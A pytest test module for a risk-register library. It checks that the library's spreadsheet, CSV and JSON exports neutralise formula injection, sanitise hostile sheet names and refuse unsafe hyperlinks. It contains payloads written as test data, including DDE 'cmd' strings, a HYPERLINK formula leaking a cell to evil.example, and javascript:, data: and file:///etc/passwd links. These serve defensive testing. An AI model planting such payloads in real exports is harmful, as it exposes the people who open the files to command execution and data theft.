"""Export safety, proved systematically (RELIABILITY.md, section B).

One register carries every formula payload in every text field of every item kind (the
fields are found from the model classes, not listed here), in custom fields' keys and
values, in the register's actor, and in the governance names the exports show. It is
exported once per format and every cell is checked: no xlsx cell is a formula, no CSV cell
starts like one unguarded, and what each format promises to keep comes back exactly.
Then hostile body names as sheet names, unsafe hyperlinks, and round trips of newlines,
whitespace and characters no export can hold.
"""

from __future__ import annotations

import csv
import json
import re
import tempfile
import typing
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import attrs
import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import raidlog
from raidlog import Body, Decision, Item, Node, Objective, Register, Risk, ValidationError
from raidlog.export import (
    apply_xlsx,
    columns_for,
    flatten,
    load_json,
    read_json,
    safe_hyperlink,
    sheet_names,
    write_board_pack,
    write_csv,
    write_json,
    write_jsonl,
)
from raidlog.export.xlsx import REGISTER_SHEET
from raidlog.migrate import import_file
from raidlog.model.values import canonical_ref
from raidlog.profiles import profile_data
from raidlog.testing import FakeClock
from raidlog.testing.strategies import items as item_strategy
from raidlog.testing.strategies import texts

# What a spreadsheet may run as a formula when a cell starts with it (OWASP WSTG-INPV-21):
# the ASCII triggers, TAB, CR, LF, and the full-width forms some locales accept.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

PAYLOADS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d1+1",  # full-width -
    "\uff20SUM(1+1)",  # full-width @
    " =1+1",
    "   =1+1",
    "\u3000=1+1",  # ideographic space
    "\u00a0-1",  # no-break space
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=",
    "-",
    "#N/A",
    "#REF!",
    "'=1+1",  # quoted already by a person: not a trigger
)

PROFILE_NAME = '=HYPERLINK("http://evil.example","profile")'

# Fields the register fills in itself: they carry the actor, which is the payload too.
_FROM_ACTOR = ("created_by", "updated_by")


def starts_like_formula(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula: a trigger first, or after
    leading whitespace (some programs trim cells when they open a CSV)."""
    return text[:1] in TRIGGERS or text.lstrip()[:1] in TRIGGERS


def text_fields(cls: type[Item]) -> tuple[str, ...]:
    """The fields of ``cls`` that hold text: ``str``, ``str | None`` or a tuple of ``str``."""
    hints = typing.get_type_hints(cls)
    found = []
    for attribute in attrs.fields(cls):
        hint = hints[attribute.name]
        args = tuple(a for a in typing.get_args(hint) if a is not type(None))
        text = hint is str or args == (str,)
        texts_ = typing.get_origin(hint) is tuple and typing.get_args(hint)[:1] == (str,)
        if text or texts_:
            found.append(attribute.name)
    return tuple(found)


def _is_tuple_field(cls: type[Item], name: str) -> bool:
    return typing.get_origin(typing.get_type_hints(cls)[name]) is tuple


def _value_for(cls: type[Item], name: str, payload: str, n: int) -> Any:
    if name == "ref":
        return f"{payload}~{n}"  # refs are unique; what matters is how the cell starts
    return (payload,) if _is_tuple_field(cls, name) else payload


def _refused(cls: type[Item], name: str, value: Any) -> bool:
    """Whether the model itself refuses ``value`` in field ``name`` (a closed vocabulary),
    or the register does (a new ref is its kind's prefix and a number)."""
    try:
        cls(**{"title": "probe", name: value})
        if name == "ref":
            canonical_ref(value, prefix=cls.ref_prefix, kind=cls.kind)
    except ValidationError:
        return True
    return False


def _carried(value: Any, payload: str) -> bool:
    """Whether a stored value still starts with the payload (up to the model's documented
    normalisation: newlines made canonical, short fields and names stripped)."""
    text = value[0] if isinstance(value, tuple) and value else value
    if not isinstance(text, str) or not text.strip():
        return False
    return text.strip().startswith(_canonical(payload).strip())


def _canonical(text: str) -> str:
    """``text`` with newlines made canonical, as the model stores it."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _toml(value: Any) -> str:
    # JSON strings and arrays of strings are valid TOML basic strings and arrays.
    return json.dumps(value)


def _hostile_profile(folder: Path, kinds: Sequence[str], names: Sequence[str]) -> Path:
    """A profile over ``default`` whose vocabularies and lifecycles accept every payload,
    so ``status``, ``priority``, ``issue_type`` and ``response_category`` carry them too."""
    default = profile_data("default")
    lines = [
        f"name = {_toml(PROFILE_NAME)}",
        'extends = "default"',
        "[vocabularies]",
    ]
    for vocabulary in ("priority", "issue_type", "response_category"):
        words = [*default["vocabularies"][vocabulary], *names]
        lines.append(f"{vocabulary} = {_toml(words)}")
    for kind in kinds:
        lines.append(f"[lifecycle.{kind}.transitions]")
        lines += [f"{_toml(name)} = []" for name in names]
    path = folder / "hostile.toml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@dataclass
class Hostile:
    """The register full of payloads, its exports, and what was put where."""

    register: Register
    folder: Path
    #: (kind, field, payload) combinations the stored items carry.
    carriers: set[tuple[str, str, str]] = field(default_factory=set)
    #: (kind, field) pairs the model refuses payloads in (closed vocabularies).
    refused: set[tuple[str, str]] = field(default_factory=set)
    #: The payloads as governance names (stripped as the model stores names).
    names: list[str] = field(default_factory=list)
    #: ref -> payload of the item.
    payload_of: dict[str, str] = field(default_factory=dict)
    files: dict[str, Path] = field(default_factory=dict)


def _build(folder: Path) -> Hostile:
    clock = FakeClock(datetime(2026, 6, 1, 9, 0, tzinfo=UTC))
    with raidlog.open("memory:", actor="probe") as probe:
        kinds = dict(probe.codec.kinds)
    names = list(dict.fromkeys(p.strip() for p in PAYLOADS))
    profile = _hostile_profile(folder, list(kinds), names)
    setup = raidlog.open("memory:", actor="setup", profile=str(profile), clock=clock)
    hostile = Hostile(setup, folder, names=names)
    n = 0
    for payload in PAYLOADS:
        name = payload.strip()
        # The actor is the payload too: created_by and updated_by carry it.
        reg = Register(
            setup.backend,
            actor=payload,
            profile=setup.profile,
            codec=setup.codec,
            plugin_manager=setup.plugin_manager,
            clock=clock,
        )
        structure = reg.structure()
        if name not in structure.nodes:
            reg.put_node(Node(name=payload, level=payload, body=payload))
            reg.put_body(Body(name=payload, node=payload, score_tolerance=1))
            reg.put_objective(
                Objective(
                    name=payload, title=payload, node=payload, owner=payload, key_results=(payload,)
                )
            )
        stored: dict[str, Item] = {}
        for kind, cls in kinds.items():
            values: dict[str, Any] = {}
            for name_ in text_fields(cls):
                if name_ in _FROM_ACTOR:
                    continue
                value = _value_for(cls, name_, payload, n)
                if _refused(cls, name_, value):
                    hostile.refused.add((kind, name_))
                    continue
                values[name_] = value
            values["extra"] = {payload: payload, "note": payload}
            if cls is Risk:
                values.update(probability=5, impact=5, inherent_probability=5, inherent_impact=5)
                values.update(residual_probability=4, residual_impact=4)
            if kind == "action":
                values.update(raised_on=date(2026, 1, 1), due=date(2026, 2, 1))
            item = reg.add(cls(**values))
            n += 1
            stored[kind] = item
        # Links: every item relates to the risk of its payload, the risk to the action.
        for kind, item in stored.items():
            target = stored["action" if kind == "risk" else "risk"]
            reg.link(item, "relates_to", target.ref or "")
        # A risk under the payload's node that nobody escalated: due for escalation to
        # the payload's body (its name then shows in the "to body" column).
        reg.add(Risk(title=f"probe {n}", node=payload, probability=5, impact=5))
        n += 1
        for item in stored.values():
            hostile.payload_of[item.ref or ""] = payload
    for item in setup.items():
        payload = hostile.payload_of.get(item.ref or "")
        if payload is None:
            continue
        cls = type(item)
        for name_ in text_fields(cls):
            if (item.kind, name_) in hostile.refused:
                continue
            assert _carried(getattr(item, name_), payload), (item.ref, name_, payload)
            hostile.carriers.add((item.kind, name_, payload))
        assert item.extra == {_canonical(payload): _canonical(payload), "note": _canonical(payload)}
        hostile.carriers.add((item.kind, "extra key", payload))
        hostile.carriers.add((item.kind, "extra value", payload))
    items = list(setup.items())
    files = hostile.files
    files["pack"] = folder / "pack.xlsx"
    write_board_pack(setup, files["pack"])
    files["body pack"] = folder / "body-pack.xlsx"
    write_board_pack(setup, files["body pack"], body=names[0])
    files["csv"] = folder / "raid.csv"
    write_csv(items, files["csv"])
    files["raw csv"] = folder / "raw.csv"
    write_csv(items, files["raw csv"], raw=True)
    files["json"] = folder / "raid.json"
    write_json(setup, files["json"])
    files["jsonl"] = folder / "raid.jsonl"
    write_jsonl(setup, files["jsonl"])
    return hostile


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    built = _build(tmp_path_factory.mktemp("hostile"))
    yield built
    built.register.close()


def _check_carriers(hostile: Hostile, checked: set[tuple[str, str, str]], what: str) -> None:
    missing = hostile.carriers - checked
    assert not missing, f"{what} did not check {sorted(missing)[:5]} ({len(missing)} in all)"


def _count(hostile: Hostile, item: Item, column: str, checked: set[tuple[str, str, str]]) -> None:
    payload = hostile.payload_of.get(item.ref or "")
    if payload is None:
        return
    if column.startswith("extra."):
        checked.add((item.kind, "extra value", payload))
        if column[6:] == _canonical(payload):
            checked.add((item.kind, "extra key", payload))
    elif (item.kind, column, payload) in hostile.carriers:
        checked.add((item.kind, column, payload))


# 1. formula injection ----------------------------------------------------------------------
def test_every_text_field_of_every_kind_carries_every_payload(hostile: Hostile) -> None:
    kinds = {i.kind for i in hostile.register.items()}
    assert len(kinds) >= 6
    fields = {f for kind, f, _ in hostile.carriers}
    # The derivation finds the shared core and kind-specific text, lists included.
    assert {"title", "description", "owner", "tags", "status", "created_by"} <= fields
    # A new ref is its kind's prefix and a number (issue 16): no payload rides one.
    assert ("risk", "ref") in hostile.refused
    assert {"cause", "resolution", "rationale", "options_considered", "counterparty"} <= fields
    # Only closed vocabularies the model checks itself, and refs, refuse a payload.
    kinds_refs = {(kind, "ref") for kind in kinds}
    assert hostile.refused - kinds_refs <= {("dependency", "direction")}
    per_kind = len(PAYLOADS) * sum(
        len(text_fields(type(i))) + 2
        for i in {type(i): i for i in hostile.register.items()}.values()
    )
    assert len(hostile.carriers) == per_kind - len(PAYLOADS) * len(hostile.refused)


def _workbook_cells(path: Path) -> Iterator[tuple[str, Any]]:
    wb = openpyxl.load_workbook(path)
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell


@pytest.mark.parametrize("pack", ["pack", "body pack"])
def test_no_xlsx_cell_is_a_formula_or_an_error(hostile: Hostile, pack: str) -> None:
    path = hostile.files[pack]
    texts_seen = 0
    for sheet, cell in _workbook_cells(path):
        assert cell.data_type not in ("f", "e"), (sheet, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            texts_seen += 1
            assert cell.data_type == "s", (sheet, cell.coordinate, cell.value)
    assert texts_seen > len(hostile.carriers)
    # And in the file itself, whatever a reader makes of it: no formula element, no
    # error cell, in any sheet.
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 7
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert not re.search(r"<(\w+:)?f[ >/]", xml), name
            assert 't="e"' not in xml, name


def _tables(ws: Any) -> Iterator[tuple[list[str], list[Any]]]:
    """The item tables of a sheet: a row starting with ``ref`` is a header."""
    header: list[str] | None = None
    for row in ws.iter_rows(values_only=True):
        if all(v is None for v in row):
            header = None  # a gap ends a table
            continue
        if row[0] == "ref":
            header = [str(h) for h in row]
            continue
        if header is not None:
            yield header, list(row)


def _same_text(cell: Any, expected: Any) -> bool:
    if expected in (None, ""):
        return cell in (None, "")
    return bool(cell == expected)


@pytest.mark.parametrize("pack", ["pack", "body pack"])
def test_every_sheet_shows_the_stored_text_exactly(hostile: Hostile, pack: str) -> None:
    reg = hostile.register
    by_ref = {i.ref: i for i in reg.items()}
    wb = openpyxl.load_workbook(hostile.files[pack])
    checked: set[tuple[str, str, str]] = set()
    tables = 0
    for ws in wb:
        for header, row in _tables(ws):
            tables += 1
            item = by_ref[row[0]]
            for column, cell in zip(header, row, strict=False):
                if not column.startswith("extra.") and not hasattr(item, column):
                    continue  # a note column ("why in view", "to body")
                expected = flatten(item, [column])[0]
                if not isinstance(expected, str) and expected is not None:
                    continue  # numbers and dates: not text
                assert _same_text(cell, expected), (ws.title, row[0], column, cell, expected)
                if ws.title == REGISTER_SHEET and isinstance(expected, str):
                    _count(hostile, item, column, checked)
    assert tables
    if pack == "pack":
        _check_carriers(hostile, checked, "the Register sheet")
        # Governance names travel too: the due-for-escalation table names every body.
        due = {row[3] for row in wb["Escalations"].iter_rows(values_only=True) if row[0]}
        assert set(hostile.names) <= due
    else:
        cover = {r[0]: r[1] for r in wb["Cover"].iter_rows(values_only=True)}
        assert cover["RAID board pack"] == f"for body {hostile.names[0]}"
        assert cover["Profile"] == reg.profile.name


def test_an_untouched_pack_applies_back_as_no_change(hostile: Hostile) -> None:
    with raidlog.open("memory:", actor="=other actor") as target:
        hostile.register.copy_to(target)
        events = len(list(target.events()))
        result = apply_xlsx(hostile.files["pack"], target)
        assert (result.updated, result.added) == ((), ())
        assert result.unchanged == len(target)
        assert len(list(target.events())) == events
        assert list(target.items()) == list(hostile.register.items())


def _csv_rows(path: Path, encoding: str) -> list[list[str]]:
    with open(path, newline="", encoding=encoding) as handle:
        return list(csv.reader(handle))


def test_no_guarded_csv_cell_starts_like_a_formula(hostile: Hostile) -> None:
    items = list(hostile.register.items())
    rows = _csv_rows(hostile.files["csv"], "utf-8-sig")
    assert hostile.files["csv"].read_bytes().startswith(b"\xef\xbb\xbf")
    header, body = rows[0], rows[1:]
    assert header == columns_for(items)
    assert len(body) == len(items)
    checked: set[tuple[str, str, str]] = set()
    for item, row in zip(items, body, strict=True):
        for column, cell in zip(header, row, strict=True):
            assert not starts_like_formula(cell), (item.ref, column, cell)
            value = flatten(item, [column])[0]
            if isinstance(value, str):
                # Guarded exactly when needed, and the guard is one leading quote.
                assert cell == ("'" + value if starts_like_formula(value) else value), column
                _count(hostile, item, column, checked)
    _check_carriers(hostile, checked, "the guarded CSV")


def test_raw_csv_writes_every_value_untouched(hostile: Hostile) -> None:
    items = list(hostile.register.items())
    assert not hostile.files["raw csv"].read_bytes().startswith(b"\xef\xbb\xbf")
    rows = _csv_rows(hostile.files["raw csv"], "utf-8")
    header, body = rows[0], rows[1:]
    checked: set[tuple[str, str, str]] = set()
    for item, row in zip(items, body, strict=True):
        for column, cell in zip(header, row, strict=True):
            value = flatten(item, [column])[0]
            if isinstance(value, str):
                assert cell == value, (item.ref, column)
                _count(hostile, item, column, checked)
    _check_carriers(hostile, checked, "the raw CSV")


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_gives_back_every_value_and_name(hostile: Hostile, fmt: str) -> None:
    reg = hostile.register
    export = read_json(hostile.files[fmt], reg.codec)
    assert export.items == list(reg.items())
    assert export.structure == reg.structure().records()
    assert export.profile == reg.profile
    checked = {
        (item.kind, name, hostile.payload_of[item.ref or ""])
        for item in export.items
        if item.ref in hostile.payload_of
        for name in [*text_fields(type(item)), "extra key", "extra value"]
    }
    _check_carriers(hostile, checked, fmt)
    with raidlog.open("memory:", actor="restorer") as target:
        assert load_json(hostile.files[fmt], target) == len(reg)
        assert list(target.items()) == list(reg.items())
        assert list(target.events()) == list(reg.events())
        assert target.verify().ok


# 2. hostile body names as sheet names --------------------------------------------------------
HOSTILE_NAMES = (
    "Risk: Q3/Board",
    "Risk: Q3\\Board",  # the same once sanitised
    "[Board]",
    "a*b?c",
    "x" * 31,
    "x" * 32,  # the same once truncated
    "x" * 40,
    "y" * 30 + "'z",  # an apostrophe left at the end by truncation
    "y" * 29 + " 'z",
    "'quoted'",
    "'lead",
    "trail'",
    "'",
    "'''",
    "History",
    "history",
    " HISTORY ",
    "History_",
    "Board",
    "board",
    "BOARD",
    "a" * 27 + " (2)",  # looks like a suffix the sanitiser adds
    "a" * 31 + "1",
    "a" * 31 + "2",
    "",
    " ",
    "[]",
    "::",
    "/\\",
    "Comit\u00e9 de dire\u00e7\u00e3o",
    "\u9805\u76ee\u59d4\u54e1\u4f1a",
    "\u0421\u043e\u0432\u0435\u0442 \u0434\u0438\u0440\u0435\u043a\u0442\u043e\u0440\u043e\u0432",
    "\U0001f600" * 20,  # 40 UTF-16 units: Excel counts those
    "\U0001f600" * 31,
    "e\u0301" * 20,  # combining accents
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "Tab\there",
    "new\nline",
    "nul\x00and\x1fbell\x07",
    "\u202eRTL override",
    "Sheet",
)


def _utf16(text: str) -> int:
    return len(text.encode("utf-16-le", "surrogatepass")) // 2


def _valid_sheet_name(name: str) -> bool:
    return (
        0 < _utf16(name) <= 31
        and not re.search(r"[\[\]:*?/\\\x00-\x1f\x7f-\x9f]", name)
        and not name.startswith("'")
        and not name.endswith("'")
        and name == name.strip()
        and name.casefold() != "history"
    )


def test_sheet_names_from_hostile_titles_are_valid_unique_and_findable(tmp_path: Path) -> None:
    mapping = sheet_names(HOSTILE_NAMES)
    assert set(mapping) == set(HOSTILE_NAMES)
    names = list(mapping.values())
    bad = [(t, n) for t, n in mapping.items() if not _valid_sheet_name(n)]
    assert not bad
    assert len({n.casefold() for n in names}) == len(names), "names collide"
    # A title that needed nothing keeps its name.
    assert mapping["Board"] == "Board"
    assert mapping["Comit\u00e9 de dire\u00e7\u00e3o"] == "Comit\u00e9 de dire\u00e7\u00e3o"
    # openpyxl takes every name without a warning (warnings are errors here) and the
    # saved workbook opens with each sheet where the map says.
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title in HOSTILE_NAMES:
        wb.create_sheet(mapping[title])["A1"] = "for " + repr(title)
    path = tmp_path / "names.xlsx"
    wb.save(path)
    back = openpyxl.load_workbook(path)
    assert back.sheetnames == names
    for title in HOSTILE_NAMES:
        assert back[mapping[title]]["A1"].value == "for " + repr(title)


def test_a_title_asked_for_twice_gets_one_name() -> None:
    assert sheet_names(["Board", "Board", "board"]) == {"Board": "Board", "board": "board (2)"}


def test_packs_for_bodies_with_hostile_names_are_written_and_name_the_body(
    tmp_path: Path,
) -> None:
    clock = FakeClock(datetime(2026, 6, 1, 9, 0, tzinfo=UTC))
    bodies = []
    with raidlog.open("memory:", actor="ana", clock=clock) as reg:
        for n, title in enumerate(HOSTILE_NAMES):
            try:
                body = Body(name=title)
            except ValidationError:
                continue  # an empty name or a control character: the model refuses it
            if body.name in reg.structure().bodies:
                continue
            reg.put_body(body)
            reg.add(Risk(title=f"risk {n}", body=body.name, probability=4, impact=4))
            bodies.append(body.name)
        assert len(bodies) >= 35
        for n, name in enumerate(bodies):
            out = tmp_path / f"pack{n}.xlsx"
            write_board_pack(reg, out, body=name)
            wb = openpyxl.load_workbook(out)
            assert all(_valid_sheet_name(s) for s in wb.sheetnames)
            cover = {r[0]: r[1] for r in wb["Cover"].iter_rows(values_only=True)}
            assert cover["RAID board pack"] == f"for body {name}"
            view = list(wb["View"].iter_rows(values_only=True))
            assert [r[view[0].index("body")] for r in view[1:]] == [name]


# 3. unsafe hyperlinks --------------------------------------------------------------------------
LONG_URL = "https://example.org/" + "a" * 2100  # Excel holds at most 2,079 characters
LINKS = {
    # text: whether the cell may become a clickable link
    "https://example.org/r/1": True,
    "HTTPS://EXAMPLE.ORG/R/1": True,
    "https://example.org/a?b=c&d=%20#frag": True,
    "mailto:pmo@example.org": True,
    "MailTo:pmo@example.org?subject=RAID": True,
    "http://example.org": False,
    "HTTP://example.org": False,
    "javascript:alert(1)": False,
    "JaVaScRiPt:alert(1)": False,
    " javascript:alert(1)": False,
    "javascript://https://example.org": False,
    "vbscript:msgbox(1)": False,
    "VBScript:msgbox(1)": False,
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==": False,
    "file:///etc/passwd": False,
    "FILE://server/share/x.xlsx": False,
    "file:///C:/Windows/System32/calc.exe": False,
    "\\\\server\\share\\x.xlsx": False,
    "//server/share/x.xlsx": False,
    "../secret.xlsx": False,
    "secret.xlsx": False,
    "C:\\Windows\\System32\\calc.exe": False,
    "#Register!A1": False,
    "ftp://example.org": False,
    "smb://server/share": False,
    "ms-excel:ofe|u|https://example.org/x.xlsx": False,
    "https:example.org": False,
    "https:\\\\server\\share": False,
    "https://exa mple.org": False,
    "https://example.org/\tx": False,
    "\u202ehttps://example.org": False,
    "\u04bbttps://example.org": False,  # a Cyrillic h
    LONG_URL: False,
}
# Leading or trailing whitespace: stripped text fields hold the bare link, free text keeps
# the whitespace; either way a link, if any, is the bare https one.
LINKS_SPACED = ("  https://example.org/spaced", "https://example.org/trailing\n")


def _link_register(reg: Register) -> None:
    for n, text in enumerate([*LINKS, *LINKS_SPACED]):
        reg.add(
            Risk(
                title=text if len(text) <= 300 else f"long {n}",
                description=text,
                owner=text if len(text) <= 300 else None,
                extra={"ticket": text},
                probability=3,
                impact=3,
            )
        )


def _allowed(target: str) -> bool:
    return target.lower().startswith(("https://", "mailto:"))


def test_only_safe_links_are_clickable_in_every_sheet(tmp_path: Path) -> None:
    out = tmp_path / "links.xlsx"
    with raidlog.open("memory:", actor="ana") as reg:
        _link_register(reg)
        write_board_pack(reg, out)
    linked: dict[str, set[str]] = {}
    for sheet, cell in _workbook_cells(out):
        if cell.hyperlink is None:
            continue
        target = cell.hyperlink.target
        assert _allowed(target), (sheet, cell.coordinate, target)
        assert target == str(cell.value).strip(), (sheet, cell.coordinate)
        assert not any(c.isspace() for c in target)
        assert len(target) <= 2079
        linked.setdefault(sheet, set()).add(str(cell.value))
    # Every sheet with item text shows the safe links, and only those, clickable.
    wanted = {text for text, ok in LINKS.items() if ok}
    assert linked[REGISTER_SHEET] >= wanted
    assert linked["View"] >= wanted
    for sheet, values in linked.items():
        unsafe = {v for v in values if v in LINKS and not LINKS[v]}
        assert not unsafe, (sheet, unsafe)
    # The file agrees, whatever a reader makes of it: every external target is allowed.
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/_rels/"):
                xml = archive.read(name).decode("utf-8")
                for target in re.findall(r'Target="([^"]*)"', xml):
                    assert _allowed(target), (name, target)


@pytest.mark.parametrize(("text", "ok"), list(LINKS.items()))
def test_safe_hyperlink_policy(text: str, ok: bool) -> None:
    assert (safe_hyperlink(text) is not None) is ok


def test_links_beyond_excels_count_stay_plain_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Excel holds 65,530 hyperlinks in a sheet and repairs (drops) the rest: beyond that
    # count a link is written as plain text. The limit is lowered to keep the test small.
    monkeypatch.setattr("raidlog.export.xlsx.EXCEL_MAX_HYPERLINKS", 3)
    out = tmp_path / "many.xlsx"
    with raidlog.open("memory:", actor="ana") as reg:
        for n in range(5):
            reg.add(Risk(title=f"r{n}", extra={"ticket": f"https://example.org/{n}"}))
        write_board_pack(reg, out)
    ws = openpyxl.load_workbook(out)[REGISTER_SHEET]
    column = [c.value for c in ws[1]].index("extra.ticket")
    cells = [row[column] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [f"https://example.org/{n}" for n in range(5)]
    assert [c.hyperlink is not None for c in cells] == [True, True, True, False, False]


# 4. newlines, whitespace and characters no export can hold ------------------------------------
ROUND_TRIP_TEXTS = (
    "a\r\nb",
    "a\rb",
    "a\nb",
    "\r\n\r\nx\r\n",
    "mixed\r\n\r\n\n\r end",
    "ends with a newline\n",
    "\n",
    "\tindented",
    "\t",
    "tab\tin\tthe\tmiddle",
    "trailing  ",
    "  both  ",
    "   ",
    "x\n\n\ny",
    "line\u2028separator\u2029paragraph",
    "\u00a0no-break\u00a0",
    "\u3000ideographic",
    "'leading quote",
    '"double" quotes, commas; semicolons',
    "\ufeffbyte-order mark first",
    "[looks like a list]",
)
# Keys of custom fields become column names: whitespace around them must survive too.
ROUND_TRIP_KEYS = (" key ", "key\t", "\tkey", "key\nline", "  ", "k\r\ney")


def _round_trip_register(reg: Register) -> None:
    for n, text in enumerate(ROUND_TRIP_TEXTS):
        reg.add(
            Decision(
                title=f"decision {n}",
                description=text,
                rationale=text,
                options_considered=(text, "plain"),
                extra={"value": text, ROUND_TRIP_KEYS[n % len(ROUND_TRIP_KEYS)]: text},
            )
        )


def test_text_is_canonical_at_ingest() -> None:
    with raidlog.open("memory:", actor="ana") as reg:
        _round_trip_register(reg)
        for n, (item, text) in enumerate(zip(reg.items(), ROUND_TRIP_TEXTS, strict=True)):
            assert item.description == _canonical(text)
            assert "\r" not in item.description
            key = _canonical(ROUND_TRIP_KEYS[n % len(ROUND_TRIP_KEYS)])
            assert item.extra == {"value": _canonical(text), key: _canonical(text)}


def test_newlines_and_whitespace_round_trip_through_every_format(tmp_path: Path) -> None:
    with raidlog.open("memory:", actor="ana") as reg:
        _round_trip_register(reg)
        items = list(reg.items())
        columns = columns_for(items)
        # JSON and JSON Lines: exact.
        for name, writer in (("rt.json", write_json), ("rt.jsonl", write_jsonl)):
            writer(reg, tmp_path / name)
            assert read_json(tmp_path / name).items == items
        # Raw CSV, read with the csv module: every cell exactly the stored text.
        write_csv(items, tmp_path / "rt.csv", raw=True)
        rows = _csv_rows(tmp_path / "rt.csv", "utf-8")
        assert rows[0] == columns
        for item, row in zip(items, rows[1:], strict=True):
            for column, cell, value in zip(columns, row, flatten(item, columns), strict=True):
                if isinstance(value, str):
                    assert cell == value, (item.ref, column)
        # The board pack: every cell reads back as written, and applying the untouched
        # pack changes nothing.
        write_board_pack(reg, tmp_path / "rt.xlsx")
        ws = openpyxl.load_workbook(tmp_path / "rt.xlsx")[REGISTER_SHEET]
        sheet_rows = list(ws.iter_rows(values_only=True))
        pack_columns = columns_for(items, reg.codec.kinds.values())  # every kind's fields
        assert list(sheet_rows[0]) == pack_columns
        for item, row in zip(items, sheet_rows[1:], strict=True):
            values = flatten(item, pack_columns)
            for column, cell, value in zip(pack_columns, row, values, strict=True):
                if isinstance(value, str):
                    assert _same_text(cell, value), (item.ref, column, cell, value)
        result = apply_xlsx(tmp_path / "rt.xlsx", reg)
        assert (result.updated, result.added) == ((), ()), [
            (e.ref, [(c.field, c.old, c.new) for c in e.changes])
            for e in reg.events(after=len(items))
        ]
        assert list(reg.items()) == items


def test_a_custom_field_whose_key_has_spaces_round_trips_through_the_pack(tmp_path: Path) -> None:
    # Regression: header cells were stripped on re-import, so " key " came back as " key"
    # and an untouched pack added a second key.
    with raidlog.open("memory:", actor="ana") as reg:
        reg.add(Risk(title="r", extra={" key ": "v", "k\t": "w"}))
        write_board_pack(reg, tmp_path / "k.xlsx")
        assert apply_xlsx(tmp_path / "k.xlsx", reg).updated == ()
        assert reg.get("R-0001").extra == {" key ": "v", "k\t": "w"}


_UNHOLDABLE = (
    *(chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"),
    "\x7f",
    *(chr(c) for c in range(0x80, 0xA0)),
    "\ud800",  # a lone surrogate: no UTF-8 file can hold it
    "\udfff",
    "\ufffe",  # not characters in XML: a workbook holding them does not open
    "\uffff",
)


@pytest.mark.parametrize("char", _UNHOLDABLE, ids=[f"U+{ord(c):04X}" for c in _UNHOLDABLE])
def test_characters_no_export_can_hold_are_refused_at_ingest(char: str) -> None:
    code = f"U+{ord(char):04X}"
    for build, field_name in (
        (lambda: Risk(title=f"a{char}b"), "title"),
        (lambda: Risk(title="t", description=f"a{char}b"), "description"),
        (lambda: Risk(title="t", tags=(f"a{char}",)), "tags"),
        (lambda: Risk(title="t", extra={"k": f"a{char}"}), "extra['k']"),
        (lambda: Risk(title="t", extra={f"k{char}": "v"}), "extra key"),
        (lambda: Decision(title="t", options_considered=(f"a{char}",)), "options_considered"),
        (lambda: Body(name=f"a{char}b"), "body name"),
        (lambda: Node(name=f"a{char}b"), "node name"),
    ):
        with pytest.raises(ValidationError, match=re.escape(code)) as caught:
            build()
        assert field_name in str(caught.value)


def test_the_importer_removes_them_with_a_note(tmp_path: Path) -> None:
    # The importer cleans what the model refuses, with the model's own pattern: a CSV
    # holding U+FFFE imports, flagged, instead of failing the row.
    path = tmp_path / "odd.csv"
    path.write_text(
        "Ref,Title,Description\r\nR1,Odd\ufffe title,a\uffffb\x07c\r\n", encoding="utf-8"
    )
    with raidlog.open("memory:", actor="ana") as reg:
        report = import_file(path, reg)
        (risk,) = reg.items()
        assert (risk.title, risk.description) == ("Odd title", "abc")
        assert [n.reason for n in report.flagged] == ["control characters removed"] * 2


def test_text_of_the_cover_that_xlsx_cannot_hold_is_shown_escaped(tmp_path: Path) -> None:
    # The register's location is not item text: a file name may hold a control character.
    location = tmp_path / "raid\x01\x1f.db"
    with raidlog.open(str(location), actor="ana") as reg:
        reg.add(Risk(title="r"))
        write_board_pack(reg, tmp_path / "cover.xlsx")
    cover = {
        r[0]: r[1]
        for r in openpyxl.load_workbook(tmp_path / "cover.xlsx")["Cover"].iter_rows(
            values_only=True
        )
    }
    assert cover["Register"] == str(location).replace("\x01", "\\x01").replace("\x1f", "\\x1f")


def test_a_cell_longer_than_excel_holds_is_refused_not_truncated(tmp_path: Path) -> None:
    # Each option is within the model's limit; joined in one cell they are not.
    out = tmp_path / "long.xlsx"
    out.write_bytes(b"the previous pack")
    options = ("a" * 20_000, "b" * 20_000)
    with raidlog.open("memory:", actor="ana") as reg:
        reg.add(Decision(title="d", options_considered=options))
        with pytest.raises(ValidationError, match=r"D-0001.*options_considered.*32,767"):
            write_board_pack(reg, out)
        assert out.read_bytes() == b"the previous pack"
        # CSV and JSON hold it whole.
        write_csv(reg.items(), tmp_path / "long.csv", raw=True)
        header, row = _csv_rows(tmp_path / "long.csv", "utf-8")
        assert row[header.index("options_considered")] == "; ".join(options)
        write_json(reg, tmp_path / "long.json")
